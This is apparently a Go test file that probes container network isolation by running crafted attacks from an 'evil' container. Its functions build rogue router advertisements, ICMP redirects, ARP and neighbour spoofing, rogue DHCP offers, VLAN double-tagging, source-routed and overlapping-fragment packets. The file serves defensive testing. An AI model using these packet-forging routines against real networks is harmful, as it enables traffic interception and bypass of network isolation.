package attack_test

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"fairlead/internal/model"
	"fairlead/internal/threat"

	"golang.org/x/sys/unix"
)

// hostServicePort is the port on which the host itself listens.
const hostServicePort = 7000

var (
	allNodes  = net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}
	broadcast = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
)

// mac returns the hardware address of a place's link.
func (p position) mac(link string) (mac net.HardwareAddr, err error) {
	err = p(func() error {
		l, err := net.InterfaceByName(link)
		if err == nil {
			mac = l.HardwareAddr
		}
		return err
	})
	return mac, err
}

// advertise sends router advertisements with preference high.
func advertise(from position) error {
	body := []byte{5, 0x08, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	prefix := append([]byte{3, 4, 64, 0xc0}, make([]byte, 28)...)
	binary.BigEndian.PutUint32(prefix[4:], 86400)
	binary.BigEndian.PutUint32(prefix[8:], 86400)
	copy(prefix[16:], netip.MustParseAddr("2001:db8:bad::").AsSlice())
	mtu := []byte{5, 1, 0, 0, 0, 0, 0x05, 0x14}
	packet := icmp(netip.MustParseAddr("fe80::bad"), netip.MustParseAddr("ff02::1"), 134, 0,
		append(append(body, prefix...), mtu...))
	for range 3 {
		if err := from.sendFrame("eth0", allNodes, unix.ETH_P_IPV6, packet); err != nil {
			return err
		}
	}
	return nil
}

// advertised returns what a place has configured from a router advertisement.
func (p position) advertised() (string, error) {
	out, err := p.sh("ip -6 route show; ip -6 -o addr show; sysctl net.ipv6.conf 2>/dev/null | grep -E '(hop_limit = 5|mtu = 1300)$' || true")
	var found []string
	for _, line := range strings.Split(out, "\n") {
		if strings.Contains(line, "proto ra") || strings.Contains(line, "2001:db8:bad:") ||
			strings.Contains(line, "hop_limit") || strings.Contains(line, "mtu = ") {
			found = append(found, line)
		}
	}
	return strings.Join(found, "; "), err
}

// advertiseHost sends advertisements to a host that does not forward IPv6, because
// a forwarding host ignores them by default: from a network without IPv6, and on a
// bridge also from an internal network with IPv6.
func advertiseHost(w *world, c threat.Cell, _ flavor) result {
	for _, name := range plainBoxes(c.Driver) {
		from := position(w.plain.In(name))
		if err := advertise(from); err != nil {
			return result{err: err}
		}
		to := netip.AddrPortFrom(w.plainGateway(name), hostServicePort)
		if err := from.converse(model.TCP, netip.AddrPort{}, to, "host", nonce()); err != nil {
			return result{err: fmt.Errorf("the host is not reached: %w", err)}
		}
	}
	got, err := position(w.plain.Do).advertised()
	return result{effect: got != "", because: got, err: err}
}

// reach makes a container send a request to its neighbour. When the answer arrives, all earlier
// packets have arrived.
func (w *world) reach(from, to string, v4 bool) error {
	err := position(w.host.In(from)).converse(model.TCP, netip.AddrPort{},
		netip.AddrPortFrom(w.address(to, v4), workPort), to, nonce())
	if err != nil {
		err = fmt.Errorf("%s does not reach %s: %w", from, to, err)
	}
	return err
}

func advertiseContainer(w *world, c threat.Cell, _ flavor) result {
	if err := advertise(w.host.In(evil(c.Driver))); err != nil {
		return result{err: err}
	}
	if err := w.reach(evil(c.Driver), victim(c.Driver), false); err != nil {
		return result{err: err}
	}
	got, err := position(w.host.In(victim(c.Driver))).advertised()
	return result{effect: got != "", because: got, err: err}
}

// redirect sends the victim ICMP redirects with the source address of its gateway. They name the
// attacker as a better gateway.
func redirect(w *world, c threat.Cell, f flavor) result {
	far := unusedAddress(f.v4)
	from, to := w.address(evil(c.Driver), f.v4), w.address(victim(c.Driver), f.v4)
	if err := w.reach(evil(c.Driver), victim(c.Driver), f.v4); err != nil {
		return result{err: err}
	}
	gateway := w.gateway(victim(c.Driver), f.v4)
	var packets [][]byte
	if f.v4 {
		echo := icmp(to, far, 0, 0, make([]byte,
			12)) // the kernel accepts a redirect for an echo reply without a socket
		packets = append(packets, icmp(gateway, to, 5, 1, append(from.AsSlice(), echo...)))
	} else {
		echo := icmp(to, far, 128, 0, make([]byte, 12))
		body := append(append(make([]byte, 4), from.AsSlice()...), far.AsSlice()...)
		body = append(append(body, 4, byte(1+(len(echo)+7)/8), 0, 0, 0, 0, 0, 0), echo...)
		for _, router := range []netip.Addr{gateway, netip.MustParseAddr("fe80::1")} {
			packets = append(packets, icmp(router, to, 137, 0, body))
		}
	}
	for range 3 {
		if err := position(w.host.In(evil(c.Driver))).send(packets...); err != nil {
			return result{err: err}
		}
		if err := w.reach(evil(c.Driver), victim(c.Driver), f.v4); err != nil {
			return result{err: err}
		}
	}
	got, err := position(w.host.In(victim(c.Driver))).sh("ip route get " + far.String() + " || true")
	return result{effect: strings.Contains(got, "via "+from.String()), because: got, err: err}
}

// takeAddress claims the address of the third container for the attacker, or that of the gateway on
// a link without a third container.
func takeAddress(w *world, c threat.Cell, f flavor) result {
	const enough = 4 * time.Second // a neighbour entry is locked for one second
	attacker, prey := position(w.host.In(evil(c.Driver))), position(w.host.In(victim(c.Driver)))
	target := w.address(third(c.Driver), f.v4)
	if c.Driver == model.DriverRouted {
		target = w.gateway(victim(c.Driver), f.v4)
	} else if err := w.reach(victim(c.Driver), third(c.Driver), f.v4); err != nil {
		return result{err: err}
	}
	own, err := attacker.mac("eth0")
	if err != nil {
		return result{err: err}
	}
	to, err := prey.mac("eth0")
	if err != nil {
		return result{err: err}
	}
	lie := func() error {
		if f.v4 {
			arp := append([]byte{0, 1, 8, 0, 6, 4, 0, 2}, own...)
			arp = append(append(append(arp, target.AsSlice()...), to...),
				w.address(victim(c.Driver), true).AsSlice()...)
			return attacker.sendFrame("eth0", to, unix.ETH_P_ARP, arp)
		}
		body := append([]byte{0x20, 0, 0, 0}, target.AsSlice()...)
		body = append(append(body, 2, 1), own...)
		return attacker.sendFrame("eth0", to, unix.ETH_P_IPV6,
			icmp(target, w.address(victim(c.Driver), false), 136, 0, body))
	}
	for deadline := time.Now().Add(enough); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		if err := lie(); err != nil {
			return result{err: err}
		}
		got, err := prey.sh("ip neigh show to " + target.String() + " dev eth0")
		if err != nil {
			return result{err: err}
		}
		if strings.Contains(got, own.String()) {
			_, err := prey.sh("ip neigh del " + target.String() + " dev eth0")
			return result{effect: true, because: got, err: err}
		}
	}
	return result{because: "the victim keeps the right hardware address"}
}

// delivered sends packets, waits for the answer to a later packet of the attacker, and reports
// whether the receiver has received the text.
func delivered(from position, marker func() error, to position, text string, packets ...[]byte) result {
	tap, err := to.tap()
	if err != nil {
		return result{err: err}
	}
	defer tap.close()
	if err := from.send(packets...); err != nil {
		return result{err: err}
	}
	if err := marker(); err != nil {
		return result{err: err}
	}
	return result{effect: tap.received(contains(text)), because: "whether the packet arrived"}
}

// asksHost makes a place send a request to the host itself.
func (w *world) asksHost(from position, at netip.Addr) func() error {
	return func() error {
		err := from.converse(model.TCP, netip.AddrPort{}, netip.AddrPortFrom(at, hostServicePort), "host", nonce())
		if err != nil {
			err = fmt.Errorf("the attacker does not reach the host: %w", err)
		}
		return err
	}
}

func spoofContainer(w *world, c threat.Cell, f flavor) result {
	text := nonce()
	packet := segment{proto: f.proto, src: netip.AddrPortFrom(w.address(third(c.Driver), f.v4), 4444),
		dst: netip.AddrPortFrom(w.address(victim(c.Driver), f.v4), workPort), payload: text}.packet()
	return delivered(w.host.In(evil(c.Driver)), func() error { return w.reach(evil(c.Driver), victim(c.Driver), f.v4) },
		w.host.In(victim(c.Driver)), text, packet)
}

// serveDHCP makes the victim request an address, and the attacker offer one.
func serveDHCP(w *world, c threat.Cell, _ flavor) result {
	attacker, prey := position(w.host.In(evil(c.Driver))), position(w.host.In(victim(c.Driver)))
	heard, err := attacker.tap()
	if err != nil {
		return result{err: err}
	}
	defer heard.close()
	offered, err := prey.tap()
	if err != nil {
		return result{err: err}
	}
	defer offered.close()
	any, all := netip.IPv4Unspecified(), netip.AddrFrom4([4]byte{255, 255, 255, 255})
	discover, offer := nonce(), nonce()
	if err := prey.sendFrame("eth0", broadcast, unix.ETH_P_IP,
		segment{proto: model.UDP, src: netip.AddrPortFrom(any, 68), dst: netip.AddrPortFrom(all, 67),
			payload: discover}.packet()); err != nil {
		return result{err: err}
	}
	if err := attacker.sendFrame("eth0", broadcast, unix.ETH_P_IP,
		segment{proto: model.UDP, src: netip.AddrPortFrom(w.address(evil(c.Driver), true), 67),
			dst: netip.AddrPortFrom(all, 68), payload: offer}.packet()); err != nil {
		return result{err: err}
	}
	for _, pair := range [][2]string{{victim(c.Driver), evil(c.Driver)}, {evil(c.Driver), victim(c.Driver)}} {
		if err := w.reach(pair[0], pair[1], true); err != nil {
			return result{err: err}
		}
	}
	asked, answered := heard.received(contains(discover)), offered.received(contains(offer))
	return result{effect: asked && answered,
		because: fmt.Sprintf("the request is heard: %v, the offer arrives: %v", asked, answered)}
}

// tagVLAN sends to a container of another network, via the bridge of that network
// and via the attacker's, with all kinds of VLAN tags.
func tagVLAN(w *world, c threat.Cell, f flavor) result {
	attacker := position(w.host.In(evil(c.Driver)))
	prey := position(w.host.In(otherBox))
	tap, err := prey.tap()
	if err != nil {
		return result{err: err}
	}
	defer tap.close()
	target, err := prey.mac("eth0")
	if err != nil {
		return result{err: err}
	}
	text := nonce()
	packet := segment{proto: f.proto, src: netip.AddrPortFrom(w.address(evil(c.Driver), f.v4), 4444),
		dst: netip.AddrPortFrom(w.address(otherBox, f.v4), workPort), payload: text}.packet()
	inner := map[bool][]byte{true: {8, 0}, false: {0x86, 0xdd}}[f.v4]
	gateway, err := w.gatewayMAC(evil(c.Driver), f.v4)
	if err != nil {
		return result{err: err}
	}
	for _, to := range []net.HardwareAddr{target, gateway, broadcast} {
		for _, id := range []byte{0, 1, 2, 100} {
			tagged := append(append([]byte{0, id}, inner...), packet...)
			double := append([]byte{0, id, 0x81, 0}, tagged...)
			for _, try := range []struct {
				kind uint16
				body []byte
			}{{unix.ETH_P_8021Q, tagged}, {unix.ETH_P_8021AD, tagged}, {unix.ETH_P_8021AD, double},
				{unix.ETH_P_8021Q, double}} {
				if err := attacker.sendFrame("eth0", to, try.kind, try.body); err != nil {
					return result{err: err}
				}
			}
		}
	}
	if err := w.asksHost(attacker, w.own(f.v4))(); err != nil {
		return result{err: err}
	}
	return result{effect: tap.received(contains(text)), because: "whether a tagged packet arrived"}
}

// gatewayMAC returns the hardware address of a container's gateway.
func (w *world) gatewayMAC(name string, v4 bool) (net.HardwareAddr, error) {
	from := position(w.host.In(name))
	if err := w.asksHost(from, w.own(v4))(); err != nil {
		return nil, err
	}
	family := map[bool]string{true: "-4", false: "-6"}[v4]
	out, err := from.sh("ip " + family + " neigh show dev eth0 | sed -n 's/.*lladdr \\([^ ]*\\).*/\\1/p' | head -1")
	if err != nil {
		return nil, err
	}
	return net.ParseMAC(strings.TrimSpace(out))
}

// sourceRoute names the internal container as the next hop after the host.
func sourceRoute(w *world, c threat.Cell, f flavor) result {
	attacker := w.from(c.Attacker, c.Driver)
	src := w.source(c.Attacker, c.Driver, f.v4)
	text := nonce()
	next := w.address(innerBox, f.v4)
	number, datagram := segment{proto: f.proto, src: netip.AddrPortFrom(src, 4444),
		dst: netip.AddrPortFrom(next, workPort), payload: text}.transport()
	var packets [][]byte
	if f.v4 {
		for _, kind := range []byte{131, 137} { // loose, strict
			option := append([]byte{kind, 7, 4}, next.AsSlice()...)
			packets = append(packets, ip(src, w.own(true), number, append(option, 0), datagram))
		}
	} else {
		header := append([]byte{number, 2, 0, 1, 0, 0, 0, 0}, next.AsSlice()...)
		packets = append(packets, ip(src, w.own(false), unix.IPPROTO_ROUTING, nil, append(header, datagram...)))
	}
	return delivered(attacker, w.asksHost(attacker, w.own(f.v4)), w.host.In(innerBox), text, packets...)
}

// fragment sends a datagram to a port that is not published, in fragments of eight
// bytes and in overlapping ones.
func fragment(w *world, c threat.Cell, f flavor) result {
	attacker := w.from(c.Attacker, c.Driver)
	src, dst := w.source(c.Attacker, c.Driver, f.v4), w.address(victim(c.Driver), f.v4)
	text := nonce()
	text = text[:min(len(text), 16)]
	number, datagram := segment{proto: f.proto, src: netip.AddrPortFrom(src, 4444),
		dst: netip.AddrPortFrom(dst, workPort), payload: text + strings.Repeat("x", 48)}.transport()
	var packets [][]byte
	for id, cuts := range [][]int{{0, 8, 32}, {0, 8, 8, 32}} {
		for i, at := range cuts {
			end := len(datagram)
			if i+1 < len(cuts) {
				end = max(cuts[i+1], at+8)
			}
			packets = append(packets, piece(src, dst, number, uint16(id+1), at, datagram[at:end], end < len(datagram)))
		}
	}
	return delivered(attacker, w.asksHost(attacker, w.own(f.v4)), w.host.In(victim(c.Driver)), text, packets...)
}

// piece returns one fragment.
func piece(src, dst netip.Addr, number byte, id uint16, at int, b []byte, more bool) []byte {
	if src.Is6() {
		h := make([]byte, 8)
		h[0] = number
		binary.BigEndian.PutUint16(h[2:], uint16(at))
		if more {
			h[3] |= 1
		}
		binary.BigEndian.PutUint32(h[4:], uint32(id))
		return ip(src, dst, unix.IPPROTO_FRAGMENT, nil, append(h, b...))
	}
	p := ip(src, dst, number, nil, b)
	binary.BigEndian.PutUint16(p[4:], id)
	binary.BigEndian.PutUint16(p[6:], uint16(at/8))
	if more {
		p[6] |= 0x20
	}
	p[10], p[11] = 0, 0
	binary.BigEndian.PutUint16(p[10:], checksum(p[:20]))
	return p
}

// unpublished sends first packets to a port that is not published. Their sources
// are the attacker's address, a container of the network, a client on the LAN, and
// the host.
func unpublished(w *world, c threat.Cell, f flavor) result {
	attacker := w.from(c.Attacker, c.Driver)
	text := nonce()
	dst := netip.AddrPortFrom(w.address(victim(c.Driver), f.v4), workPort)
	var packets [][]byte
	for _, src := range []netip.Addr{w.source(c.Attacker, c.Driver, f.v4), w.address(third(c.Driver), f.v4),
		w.client.Address(0, f.v4), w.own(f.v4), w.gateway(victim(c.Driver), f.v4)} {
		packets = append(packets, segment{proto: f.proto, src: netip.AddrPortFrom(src, w.port()), dst: dst, flags: syn,
			payload: text}.packet())
	}
	return delivered(attacker, w.asksHost(attacker, w.own(f.v4)), w.host.In(victim(c.Driver)), text, packets...)
}
